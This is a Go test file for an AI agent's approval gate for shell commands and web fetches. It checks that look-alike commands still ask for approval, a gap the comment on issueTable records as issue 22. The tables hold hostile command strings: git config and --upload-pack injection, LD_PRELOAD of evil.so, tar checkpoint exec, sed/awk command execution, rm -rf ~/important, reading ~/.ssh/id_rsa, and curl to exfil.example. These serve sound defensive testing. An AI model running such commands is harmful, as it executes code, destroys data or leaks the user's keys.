package agent_test

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/wrasse-app/wrasse/brain/agent"
	"github.com/wrasse-app/wrasse/brain/gate"
	"github.com/wrasse-app/wrasse/brain/store"
	"github.com/wrasse-app/wrasse/cerebellum"
	"github.com/wrasse-app/wrasse/cerebellum/manage"
)

// issueTable is the table of issue 22: after the person approved the
// first command "for this chat", the second ran without asking.
var issueTable = [][2]string{
	{"git status", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch /tmp/pwned' git status --short"},
	{"git fetch", "git fetch --upload-pack='touch /tmp/pwned; git-upload-pack' repo"},
	{"timeout 5 true", "LD_PRELOAD=/tmp/evil.so timeout 5 true"},
	{"python3 -X utf8 -c 'print(1)'", `python3 -X utf8 -c 'import os; os.system("id")'`},
	{"env", "env -i sh -c 'id > /tmp/pwned'"},
	{"command -p ls", "command -p sh -c 'id > /tmp/pwned'"},
	{". ./env.sh", ". /other/evil.sh"},
	{"bash build.sh", "bash /other/evil.sh"},
	{"tar -cf out.tar src", "tar -cf out.tar src --checkpoint=1 --checkpoint-action=exec='sh -c id'"},
	{"awk '{print $1}' notes.txt", `awk 'BEGIN{system("id")}'`},
	{"sed -n 1p notes.txt", "sed -n '1e id' notes.txt"},
	{"echo hi", "echo pwned >> notes.txt"},
	{"find . -name x", "find . -name x -fprint out.txt"},
	{"rm -r build", "rm -rf ~/important"},
}

// gateEnv is a computer with a home folder and a project folder granted
// in it, for the agent's gate.
func gateEnv(home string) func() gate.Env {
	return func() gate.Env {
		return gate.Env{Home: home, Folders: []string{filepath.Join(home, "project")}, TempDirs: []string{"/tmp"}}
	}
}

func command(t *testing.T, req gate.Request) string {
	t.Helper()
	var a struct{ Command string }
	if err := json.Unmarshal(req.Args, &a); err != nil {
		t.Fatal(err)
	}
	return a.Command
}

// Every pair of the table through the real gate and approval path: the
// person approves the first for the chat, the second asks (and, denied,
// does not run).
func TestIssueTablePairsAsk(t *testing.T) {
	for _, pair := range issueTable {
		t.Run(pair[0], func(t *testing.T) {
			js := func(cmd string) string { b, _ := json.Marshal(map[string]string{"command": cmd}); return string(b) }
			prov := newProvider(t, calls(tc("c1", "shell_exec", js(pair[0]))), calls(tc("c2", "shell_exec", js(pair[1]))), text("done"))
			e := newEnv(t, prov)
			e.appr.answers = []gate.Approval{gate.ApproveConversation, gate.Deny}
			id, err := e.agent(func(o *agent.Options) { o.GateEnv = gateEnv(e.dir) }).Turn(t.Context(), e.conv(), "go on", nil)
			if err != nil {
				t.Fatal(err)
			}
			reqs := e.appr.requests()
			if len(reqs) != 2 {
				t.Fatalf("asked %d times, want 2 (the second command must ask): %+v", len(reqs), reqs)
			}
			if got := command(t, reqs[1]); got != pair[1] {
				t.Errorf("second request is about %q, want %q", got, pair[1])
			}
			if !reqs[1].OnceOnly && reqs[1].ChatCovers() != "this exact command" {
				t.Errorf("second request offers %q for the chat", reqs[1].ChatCovers())
			}
			if ran := e.rt.called(); len(ran) != 1 {
				t.Errorf("ran %q, want only the first", ran)
			}
			var kinds []string
			for _, x := range events(t, e.db, id) {
				if x.Type == store.EventApproval {
					kinds = append(kinds, string(x.Decision.Kind))
				}
			}
			if kinds[len(kinds)-1] != string(store.Denied) {
				t.Errorf("decisions %q", kinds)
			}
		})
	}
}

// The card offers "for this chat" only for what it covers exactly; a
// call that always asks offers approving it once.
func TestAlwaysAskOffersOnceOnly(t *testing.T) {
	for cmd, onceOnly := range map[string]bool{
		"git status": false, "bash build.sh": true, "timeout 5 true": true, "cat ~/.ssh/id_rsa": true, "rm -r build": true,
		"cat /etc/hosts": true, "echo hi > notes.txt": false,
	} {
		js, _ := json.Marshal(map[string]string{"command": cmd})
		prov := newProvider(t, calls(tc("c1", "shell_exec", string(js))), text("done"))
		e := newEnv(t, prov)
		e.appr.answers = []gate.Approval{gate.ApproveConversation}
		if _, err := e.agent(func(o *agent.Options) { o.GateEnv = gateEnv(e.dir) }).Turn(t.Context(), e.conv(), "go", nil); err != nil {
			t.Fatal(err)
		}
		req := e.appr.requests()[0]
		if req.OnceOnly != onceOnly || (req.ChatCovers() == "") != onceOnly {
			t.Errorf("%q: once only %v, chat covers %q; want once only %v", cmd, req.OnceOnly, req.ChatCovers(), onceOnly)
		}
	}
}

// The person's allowed command patterns (the shell's allowedCommands)
// run matching commands without asking; others still ask.
func TestAllowedCommandPatterns(t *testing.T) {
	prov := newProvider(t,
		calls(tc("c1", "shell_exec", `{"command":"git status --short"}`), tc("c2", "shell_exec", `{"command":"go test ./... -run X"}`),
			tc("c3", "shell_exec", `{"command":"git stash"}`), tc("c4", "shell_exec", `{"command":"GIT_DIR=/tmp/x git status"}`)),
		text("done"))
	e := newEnv(t, prov)
	if err := manage.New(e.reg, manage.Options{}).SetSetting("shell", agent.AllowedCommandsSetting, "git status, go test ./..."); err != nil {
		t.Fatal(err)
	}
	id, err := e.agent(func(o *agent.Options) { o.GateEnv = gateEnv(e.dir) }).Turn(t.Context(), e.conv(), "check", nil)
	if err != nil {
		t.Fatal(err)
	}
	var asked []string
	for _, r := range e.appr.requests() {
		asked = append(asked, command(t, r))
	}
	if want := []string{"git stash", "GIT_DIR=/tmp/x git status"}; !slices.Equal(asked, want) {
		t.Errorf("asked about %q, want %q", asked, want)
	}
	if ran := e.rt.called(); len(ran) != 2 {
		t.Errorf("ran %q", ran)
	}
	for _, x := range events(t, e.db, id) {
		if x.Type == store.EventApproval && (x.ToolCallID == "c1" || x.ToolCallID == "c2") {
			t.Errorf("an allowed command needs no approval event: %+v", x)
		}
	}
}

// webSkill is the real web SKILL.md's tool, served by the recorder.
func webRegistry(t *testing.T, rt *recorder) *cerebellum.Registry {
	t.Helper()
	fsys := fstest.MapFS{
		"tool-discovery/SKILL.md": {Data: builtinFile(t, "tool-discovery/SKILL.md")},
		"shell/SKILL.md":          {Data: builtinFile(t, "shell/SKILL.md")},
		"web/SKILL.md":            {Data: builtinFile(t, "web/SKILL.md")},
		"testing-tools/SKILL.md":  {Data: []byte(toolsSkill)},
	}
	reg, err := cerebellum.Open(cerebellum.Options{Builtin: fsys, Native: map[string]cerebellum.Runtime{"shell": rt, "web": rt, "testing-tools": rt}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { reg.Close() })
	return reg
}

func fetchCall(id, url string) turn {
	b, _ := json.Marshal(map[string]string{"url": url})
	return calls(tc(id, "web_fetch", string(b)))
}

// The first request of a conversation to a host asks, with the full URL;
// "for this chat" remembers the host (also after a restart), not others;
// a new conversation asks again.
func TestHostGating(t *testing.T) {
	prov := newProvider(t,
		fetchCall("c1", "https://a.example/x?d=1"), fetchCall("c2", "https://a.example/y"), fetchCall("c3", "https://b.example/"),
		text("done"),
		fetchCall("c4", "https://A.example./z"), text("again"),
		fetchCall("c5", "https://a.example/"), text("new chat"),
	)
	e := newEnv(t, prov)
	e.reg = webRegistry(t, e.rt)
	e.appr.answers = []gate.Approval{gate.ApproveConversation, gate.Deny, gate.Deny}
	id, err := e.agent().Turn(t.Context(), e.conv(), "read it", nil)
	if err != nil {
		t.Fatal(err)
	}
	reqs := e.appr.requests()
	if len(reqs) != 2 {
		t.Fatalf("asked %d times: %+v", len(reqs), reqs)
	}
	first := reqs[0]
	if !first.HostsOnly || len(first.Hosts) != 1 || first.Hosts[0] != (gate.Host{Name: "a.example", URL: "https://a.example/x?d=1"}) ||
		first.ChatCovers() != "the host a.example for the rest of this chat" || first.OnceOnly {
		t.Errorf("first request %+v (covers %q)", first, first.ChatCovers())
	}
	if !strings.Contains(strings.Join(first.Reasons, " "), "https://a.example/x?d=1") {
		t.Errorf("the reasons do not show the full URL: %q", first.Reasons)
	}
	if reqs[1].Hosts[0].Name != "b.example" {
		t.Errorf("second request %+v", reqs[1])
	}
	if ran := e.rt.called(); len(ran) != 2 {
		t.Errorf("ran %q", ran)
	}
	var hosts []string
	for _, x := range events(t, e.db, id) {
		if x.Type == store.EventApproval {
			hosts = append(hosts, fmt.Sprintf("%s:%s:%v:%v", x.ToolCallID, x.Decision.Kind, x.Decision.Hosts, x.Decision.HostsOnly))
		}
	}
	if want := []string{"c1:approved_conversation:[a.example]:true", "c3:denied:[b.example]:true"}; !slices.Equal(hosts, want) {
		t.Errorf("approval events %q, want %q", hosts, want)
	}

	// After a restart the conversation still may reach a.example.
	e.reg = webRegistry(t, e.rt)
	if _, err := e.agent().Turn(t.Context(), id, "more", nil); err != nil {
		t.Fatal(err)
	}
	if n := len(e.appr.requests()); n != 2 {
		t.Errorf("asked again after a restart (%d)", n)
	}
	// Another conversation asks.
	if _, err := e.agent().Turn(t.Context(), e.conv(), "new", nil); err != nil {
		t.Fatal(err)
	}
	if n := len(e.appr.requests()); n != 3 {
		t.Errorf("a new conversation did not ask (%d)", n)
	}
}

// With no one to ask, a new host is refused; a trusted host needs no one.
func TestHostGatingHeadlessAndTrusted(t *testing.T) {
	prov := newProvider(t, fetchCall("c1", "https://c.example/?q=1"), fetchCall("c2", "https://docs.trusted.example/a"), text("done"))
	e := newEnv(t, prov)
	e.reg = webRegistry(t, e.rt)
	if err := manage.New(e.reg, manage.Options{}).SetSetting("web", agent.TrustedHostsSetting, "*.trusted.example"); err != nil {
		t.Fatal(err)
	}
	id, err := e.agent(func(o *agent.Options) { o.Approver = gate.DenyAll{} }).Turn(t.Context(), e.conv(), "read", nil)
	if err != nil {
		t.Fatal(err)
	}
	ev := events(t, e.db, id)
	var results []string
	for _, x := range ev {
		if x.Type == store.EventToolResult {
			results = append(results, x.Text)
		}
	}
	if len(results) != 2 || !strings.Contains(results[0], "no one can approve it now") || !strings.Contains(results[0], "https://c.example/?q=1") ||
		results[1] != "fetched https://docs.trusted.example/a" {
		t.Errorf("results %q", results)
	}
	if ran := e.rt.called(); len(ran) != 1 {
		t.Errorf("ran %q", ran)
	}
}

// A plugin reaching a new host in the middle of a call (a redirect from
// an allowed host to another) asks then; the answer is recorded with the
// call, and "for this chat" is remembered.
func TestHostGatingMidCall(t *testing.T) {
	prov := newProvider(t,
		fetchCall("c1", "https://a.example/r?to=https://evil.example/land?k=v"),
		fetchCall("c2", "https://a.example/r?to=https://c.example/ok"),
		fetchCall("c3", "https://c.example/again"),
		text("done"))
	e := newEnv(t, prov)
	e.reg = webRegistry(t, e.rt)
	// a.example for the chat; evil.example denied; c.example for the chat.
	e.appr.answers = []gate.Approval{gate.ApproveConversation, gate.Deny, gate.ApproveConversation}
	id, err := e.agent().Turn(t.Context(), e.conv(), "read", nil)
	if err != nil {
		t.Fatal(err)
	}
	reqs := e.appr.requests()
	if len(reqs) != 3 || reqs[1].Hosts[0] != (gate.Host{Name: "evil.example", URL: "https://evil.example/land?k=v"}) || !reqs[1].HostsOnly ||
		reqs[1].ToolCallID != "c1" || reqs[2].Hosts[0].Name != "c.example" {
		t.Fatalf("requests %+v", reqs)
	}
	var got []string
	for _, x := range events(t, e.db, id) {
		switch x.Type {
		case store.EventApproval:
			got = append(got, fmt.Sprintf("%s approval %s %v", x.ToolCallID, x.Decision.Kind, x.Decision.Hosts))
		case store.EventToolResult:
			got = append(got, fmt.Sprintf("%s result error=%v", x.ToolCallID, x.IsError))
		}
	}
	want := []string{
		"c1 approval approved_conversation [a.example]", "c1 approval denied [evil.example]", "c1 result error=true",
		"c2 approval approved_conversation [c.example]", "c2 result error=false",
		"c3 result error=false",
	}
	if !slices.Equal(got, want) {
		t.Errorf("events\n%q\nwant\n%q", got, want)
	}
}

// A shell command reaching a host shows it; approving the command for
// the chat allows both, and the same command then runs unasked.
func TestShellNetworkHosts(t *testing.T) {
	prov := newProvider(t,
		calls(tc("c1", "shell_exec", `{"command":"curl -s https://api.example/v1?k=1"}`)),
		calls(tc("c2", "shell_exec", `{"command":"curl -s https://api.example/v1?k=1"}`)),
		calls(tc("c3", "shell_exec", `{"command":"curl -s https://exfil.example/?d=abc"}`)),
		text("done"))
	e := newEnv(t, prov)
	e.appr.answers = []gate.Approval{gate.ApproveConversation, gate.Deny}
	if _, err := e.agent(func(o *agent.Options) { o.GateEnv = gateEnv(e.dir) }).Turn(t.Context(), e.conv(), "go", nil); err != nil {
		t.Fatal(err)
	}
	reqs := e.appr.requests()
	if len(reqs) != 2 || reqs[0].HostsOnly || reqs[0].ChatCovers() != "this exact command, and the host api.example for the rest of this chat" ||
		reqs[1].Hosts[0] != (gate.Host{Name: "exfil.example", URL: "https://exfil.example/?d=abc"}) {
		t.Errorf("requests %+v", reqs)
	}
}
